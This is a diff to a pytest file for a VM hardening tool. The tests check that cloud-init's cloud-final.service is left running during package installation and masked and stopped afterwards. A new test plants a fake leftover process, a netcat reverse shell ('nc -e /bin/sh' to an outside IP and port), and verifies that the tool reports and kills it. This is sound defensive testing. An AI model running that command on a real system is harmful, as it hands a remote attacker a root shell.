@@ -60,8 +60,9 @@ def test_a_start_of_the_guest_agent_is_a_way_in_selftest_tries(cloud_vm: FakeBus
 def test_the_agent_running_the_installation_is_stopped_only_once_its_grace_is_over(
         cloud_vm: FakeBus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """cloud-init's runcmd installs the package from inside cloud-final.service: stopping that
-    unit with the other agents' would kill apt half-way. It is masked at once, left running
-    while the installer runs, and stopped at the first check after the grace."""
+    unit with the other agents' would kill apt half-way, and masking it would too (reloaded
+    from /dev/null, the running oneshot loses its TimeoutStartSec=0). It is left as it is
+    while the installer runs, and locked at the first check after the grace."""
     cloud_vm.systemd.units["cloud-final.service"].active_state = "active"
     record = tmp_path / "grace.json"
     grace.record_installer(os.getpid(), record)  # this process stands for apt-get
@@ -73,14 +74,35 @@ def test_the_agent_running_the_installation_is_stopped_only_once_its_grace_is_ov
 
     guarantee.apply(book)
     units = cloud_vm.systemd.units
-    assert units["cloud-final.service"].masked
-    assert units["cloud-final.service"].active_state == "active"
+    final = units["cloud-final.service"]
+    assert final.active_state == "active" and not final.masked
     assert units["qemu-guest-agent.service"].active_state == "inactive"
-    assert guarantee.check().holds
+    during = guarantee.check()
+    assert during.holds and "cloud-final.service runs until apt returns" in during.detail
 
     grace.end_after(0, record)
     after = guarantee.check()
-    assert not after.holds and "running: cloud-final.service" in after.detail, after.detail
+    assert not after.holds, after.detail
+    assert "not masked: cloud-final.service" in after.detail, after.detail
+    assert "running: cloud-final.service" in after.detail, after.detail
     guarantee.apply(book)  # what the tamper listener does at its next check
-    assert units["cloud-final.service"].active_state == "inactive"
+    assert final.active_state == "inactive" and final.masked
     assert guarantee.check().holds
+
+
+def test_what_a_stopped_agent_left_running_is_named_and_killed(cloud_vm: FakeBus,
+                                                               tmp_path: Path) -> None:
+    """cloud-final.service stops with KillMode=process: what runcmd put in the background
+    stays in its cgroup, root and in no running unit."""
+    guarantee = agents.RemoteAgents(grace_path=tmp_path / "no-grace.json")
+    book = journal.Journal(tmp_path / "state")
+    guarantee.apply(book)
+    final = cloud_vm.systemd.units["cloud-final.service"]
+    final.processes = [(4242, "nc -e /bin/sh 198.51.100.7 4444")]
+    found = guarantee.check()
+    assert not found.holds
+    assert ("processes left by cloud-final.service after its stop: pid 4242 "
+            "(nc -e /bin/sh 198.51.100.7 4444)") in found.detail, found.detail
+    guarantee.apply(book)
+    assert ("KillUnit", ("cloud-final.service", "all", 9)) in cloud_vm.systemd.calls
+    assert final.processes == [] and guarantee.check().holds
